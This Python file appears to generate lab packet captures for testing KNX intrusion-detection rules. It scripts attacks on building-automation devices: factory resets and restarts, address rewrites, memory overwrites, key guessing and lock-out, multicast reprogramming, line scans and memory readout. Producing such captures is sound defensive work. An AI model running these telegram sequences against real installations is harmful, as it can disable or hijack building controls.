"""Proof captures of the KNX rules: what intruders do to the devices of a line, through a tunnel and by multicast."""

from __future__ import annotations

import contextlib

from xknx.exceptions import XKNXException
from xknx.telegram import IndividualAddress, Telegram, apci
from xknx.telegram.tpci import TConnect

from compose.plant.catalogue import capture
from compose.plant.golden_knx import SERIAL
from compose.plant.golden_knx_frames import framed
from compose.plant.knx_bus import KEY
from compose.plant.knx_interface import GROUP, interface
from compose.plant.knx_work import Station, route_as, send_raw
from compose.plant.lab import Lab
from compose.plant.proofs_knx import NORMAL, attack


@capture("knx/restart.pcap", "A stranger restarts a device and resets it to its factory state.", "knx att",
         rules="KN01 KN05", learn=NORMAL, check={"cemi.mc==0x11": 4})  # fmt: skip
def restart(lab: Lab) -> None:
    """A master reset and a restart."""

    async def work(station: Station) -> None:
        await station.ask("1.1.5", apci.RestartMasterReset(erase_code=2, channel_number=0), apci.Restart())

    attack(lab, "restart and reset a device", "T0816 T0809", "KN01 KN05", work)


@capture("knx/address.pcap", "A stranger gives a device in programming mode, and one by its serial number, new "
         "addresses.", "knx att", rules="KN02 KN05", learn=NORMAL, check={"cemi.mc==0x11": 2})  # fmt: skip
def new_address(lab: Lab) -> None:
    """Two addresses."""

    async def work(station: Station) -> None:
        await station.all(apci.IndividualAddressWrite(address=IndividualAddress("1.1.66")))
        await station.all(apci.IndividualAddressSerialWrite(serial=SERIAL, address=IndividualAddress("1.1.67")))

    attack(lab, "give devices new addresses", "T0836 T0889", "KN02 KN05", work)


@capture("knx/download.pcap", "A stranger unloads a device's program and overwrites its memory, over TCP.", "knx att",
         rules="KN03 KN05", learn=NORMAL, check={"cemi.mc==0x11": 4})  # fmt: skip
def download(lab: Lab) -> None:
    """Load state and memory."""

    async def work(station: Station) -> None:
        parts = [apci.MemoryWrite(address=0x4000 + at, data=b"\xff" * 12) for at in range(0, 36, 12)]
        load = apci.PropertyValueWrite(object_index=1, property_id=5, data=b"\1" + bytes(9))
        await station.ask("1.1.5", load, *parts)

    attack(lab, "load a device", "T0843 T0889", "KN03 KN05", work, tcp=True)


@capture("knx/keys.pcap", "A stranger guesses the key of a device, then sets one of its own.", "knx att",
         rules="KN04 KN05", learn=NORMAL, check={"cemi.ax==0x3d1": 2, "cemi.ax==0x3d3": 1})  # fmt: skip
def keys(lab: Lab) -> None:
    """A wrong key, the right one, a new one."""

    async def work(station: Station) -> None:
        await station.ask("1.1.5", apci.AuthorizeRequest(key=1), apci.AuthorizeRequest(key=KEY),
                          apci.KeyWrite(level=0, key=0x0BADC0DE))  # fmt: skip

    attack(lab, "lock a device with a key", "T0859 T0892", "KN04 KN05", work)


@capture("knx/routing.pcap", "A stranger programs and restarts devices of all lines by multicast.", "knx att",
         rules="KN07 KN02 KN01", learn=NORMAL, check={"knxip.service==0x0530": 2})  # fmt: skip
def routing(lab: Lab) -> None:
    """An address and a restart, and the IP side's own reset."""

    async def work(station: Station) -> None:
        await station.all(apci.IndividualAddressWrite(address=IndividualAddress("1.1.66")))
        await station.say(IndividualAddress("1.1.5"), apci.Restart())

    with interface(lab), lab.step("manage by multicast", "att", GROUP, ["T0836", "T0816"], ["KN07", "KN02", "KN01"]):
        route_as(lab, "att", work, own="1.1.250")
        lab["att"].call(send_raw, "att", GROUP, (framed(0x0743, b"\2\1\2\0"),))


@capture("knx/line-scan.pcap", "A stranger connects to one individual address of the line after the other.", "knx att",
         rules="KN08S KN05", learn=NORMAL, check={"cemi.mc==0x11": 14})  # fmt: skip
def line_scan(lab: Lab) -> None:
    """Fourteen addresses, two of which exist."""

    async def work(station: Station) -> None:
        for number in range(1, 15):
            connect = Telegram(IndividualAddress(f"1.1.{number}"), tpci=TConnect())
            with contextlib.suppress(XKNXException):  # most are not confirmed
                await station.own.cemi_handler.send_telegram(connect)

    attack(lab, "scan the line", "T0846 T0888", "KN08S KN05", work)


@capture("knx/readout.pcap", "A stranger reads a device's memory and properties.", "knx att", rules="KN11 KN08 KN05",
         learn=NORMAL, check={"cemi.mc==0x11": 4})  # fmt: skip
def readout(lab: Lab) -> None:
    """Thirty bytes and a serial number."""

    async def work(station: Station) -> None:
        parts = [apci.MemoryRead(address=0x4000 + at, count=10) for at in range(0, 30, 10)]
        await station.ask("1.1.5", apci.DeviceDescriptorRead(descriptor=0),
                          apci.PropertyValueRead(object_index=0, property_id=11), *parts)  # fmt: skip

    attack(lab, "read a device out", "T0845 T0888", "KN11 KN08 KN05", work)
